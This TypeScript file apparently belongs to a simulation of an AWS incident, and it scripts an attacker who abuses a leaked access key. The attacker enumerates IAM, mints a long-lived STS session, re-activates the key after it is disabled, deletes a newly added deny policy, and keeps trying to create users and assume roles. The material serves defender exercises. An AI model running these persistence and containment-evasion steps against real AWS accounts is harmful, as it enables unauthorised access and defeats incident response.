import { DescribeTrailsCommand } from '@aws-sdk/client-cloudtrail';
import {
  CreateUserCommand,
  DeleteUserPolicyCommand,
  GetUserCommand,
  ListAccessKeysCommand,
  ListAttachedUserPoliciesCommand,
  ListGroupsForUserCommand,
  ListUserPoliciesCommand,
  ListUsersCommand,
  UpdateAccessKeyCommand,
} from '@aws-sdk/client-iam';
import { AssumeRoleCommand, GetCallerIdentityCommand, GetSessionTokenCommand } from '@aws-sdk/client-sts';
import type { Scenario } from '../scenario/schema.js';
import type { ActorClients, SdkCredentials } from './clients.js';
import type { Script, Stage } from './stage.js';

/** What the opportunist starts from. */
export interface OpportunistDeps {
  readonly plan: Scenario['cast']['opportunist'];
  readonly accountId: string;
  readonly leakedKeyId: string;
  readonly withKey: ActorClients;
  readonly clientsFor: (credentials: SdkCredentials) => ActorClients;
}

/** The longest session there is: it outlives the key (STS API reference). */
const SESSION_SECONDS = 129_600;

/**
 * An attacker of average skill: looks around, mints a session, watches its own user, and answers the first containment once,
 * while the old policies are still enforced: re-activates the key, strips the inline deny. Afterwards it tries for a new user and keeps trying.
 */
export function opportunist({ plan, accountId, leakedKeyId, withKey, clientsFor }: OpportunistDeps): Script {
  const UserName = plan.user;
  const known: { policies?: readonly string[]; session?: ActorClients } = {};
  const done = { reactivated: false, stripped: false, triedUser: false };

  const lookAround = async (stage: Stage): Promise<void> => {
    const { iam, sts } = withKey;
    const identity = await stage.attempt(sts.send(new GetCallerIdentityCommand({})));
    stage.say(
      identity.allowed ? `has the key ${leakedKeyId} and is ${identity.answer.Arn ?? ''}` : `cannot use the key: ${identity.errorCode}`,
    );
    await stage.attempt(iam.send(new ListUsersCommand({})));
    await stage.attempt(iam.send(new GetUserCommand({})));
    await stage.attempt(iam.send(new ListAttachedUserPoliciesCommand({ UserName })));
    await stage.attempt(iam.send(new ListGroupsForUserCommand({ UserName })));
    stage.say('has listed users, policies and groups');
  };

  const mintSession = async (stage: Stage): Promise<void> => {
    const minted = await stage.attempt(withKey.sts.send(new GetSessionTokenCommand({ DurationSeconds: SESSION_SECONDS })));
    const credentials = minted.allowed ? minted.answer.Credentials : undefined;
    if (credentials?.AccessKeyId === undefined || credentials.SecretAccessKey === undefined || credentials.SessionToken === undefined)
      return;
    known.session = clientsFor({
      accessKeyId: credentials.AccessKeyId,
      secretAccessKey: credentials.SecretAccessKey,
      sessionToken: credentials.SessionToken,
    });
    await stage.attempt(known.session.sts.send(new GetCallerIdentityCommand({})));
    stage.say(`has minted the session ${credentials.AccessKeyId}, good for 36 hours`);
  };

  /** @returns false once its own reads are refused: it is locked out */
  const watchItself = async (stage: Stage): Promise<boolean> => {
    const { iam } = withKey;
    const policies = await stage.attempt(iam.send(new ListUserPoliciesCommand({ UserName })));
    const keys = await stage.attempt(iam.send(new ListAccessKeysCommand({ UserName })));
    if (!policies.allowed || !keys.allowed) return false;
    const names = policies.answer.PolicyNames ?? [];
    known.policies ??= names;
    const added = names.find((name) => known.policies?.includes(name) === false);
    const isInactive =
      keys.answer.AccessKeyMetadata?.some(({ AccessKeyId, Status }) => AccessKeyId === leakedKeyId && Status === 'Inactive') === true;
    if (isInactive && !done.reactivated)
      done.reactivated = await say(
        stage,
        're-activates the key',
        iam.send(new UpdateAccessKeyCommand({ UserName, AccessKeyId: leakedKeyId, Status: 'Active' })),
      );
    if (added !== undefined && !done.stripped)
      done.stripped = await say(
        stage,
        `strips the inline policy ${added}`,
        iam.send(new DeleteUserPolicyCommand({ UserName, PolicyName: added })),
      );
    return true;
  };

  const keepTrying = async (stage: Stage): Promise<void> => {
    const { wantedUser, wantedRole } = plan;
    if (!done.triedUser)
      await say(stage, `tries to create the user ${wantedUser}`, withKey.iam.send(new CreateUserCommand({ UserName: wantedUser })));
    else await stage.attempt(withKey.iam.send(new ListUsersCommand({})));
    done.triedUser = true;
    await workWithSession(stage);
    await stage.attempt(
      (known.session ?? withKey).sts.send(
        new AssumeRoleCommand({ RoleArn: `arn:aws:iam::${accountId}:role/${wantedRole}`, RoleSessionName: 'support' }),
      ),
    );
  };

  const workWithSession = async (stage: Stage): Promise<void> => {
    if (known.session !== undefined) await stage.attempt(known.session.cloudtrail.send(new DescribeTrailsCommand({})));
  };

  return async (stage) => {
    await stage.pause(plan.startAfterSeconds);
    if (stage.isStopped()) return;
    await lookAround(stage);
    await mintSession(stage);
    let isLockedOut = false;
    for (let round = 0; !stage.isStopped(); round += 1) {
      if (!isLockedOut && !(await watchItself(stage))) {
        isLockedOut = true;
        stage.say('is refused its own reads: somebody is containing it');
      }
      if (isLockedOut) await keepTrying(stage);
      else if (round % 5 === 0) await workWithSession(stage);
      await stage.pause(isLockedOut ? plan.everySeconds : plan.pollSeconds);
    }
  };
}

async function say(stage: Stage, text: string, call: Promise<unknown>): Promise<boolean> {
  const { allowed, ...rest } = await stage.attempt(call);
  stage.say(allowed ? text : `${text}: refused${'errorCode' in rest ? ` (${rest.errorCode})` : ''}`);
  return allowed;
}
